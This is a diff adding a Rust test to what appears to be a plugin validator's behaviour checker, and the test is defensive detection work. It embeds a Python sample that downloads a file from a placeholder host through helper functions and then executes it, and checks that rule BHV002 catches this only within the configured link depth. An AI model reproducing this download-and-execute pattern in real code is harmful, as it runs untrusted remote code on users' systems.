@@ -78,3 +78,19 @@ fn a_capability_alone_never_fires() {
         assert!(rules(source, &limits).is_empty(), "{source}");
     }
 }
+
+#[test]
+fn a_path_is_followed_through_helpers_up_to_the_link_depth() {
+    // The download is written two helper calls away from where it is started.
+    let source = "import subprocess, tempfile, requests\n\
+                  def _save(data, path):\n    open(path, 'wb').write(data)\n\
+                  def fetch(url, dest):\n    _save(requests.get(url).content, dest)\n\
+                  def main():\n    exe = tempfile.mktemp()\n    fetch('https://x.example.invalid', exe)\n    subprocess.call([exe])\n";
+    assert_eq!(rules(source, &BehaviourLimits::default()), vec!["BHV002"]);
+    let limits = BehaviourLimits::from_lookup(|key| {
+        (key == "PLUGIN_VALIDATOR_BEHAVIOUR_MAX_LINK_DEPTH").then(|| "1".to_owned())
+    })
+    .unwrap();
+    assert_eq!(limits.max_link_depth, 1);
+    assert!(rules(source, &limits).is_empty());
+}
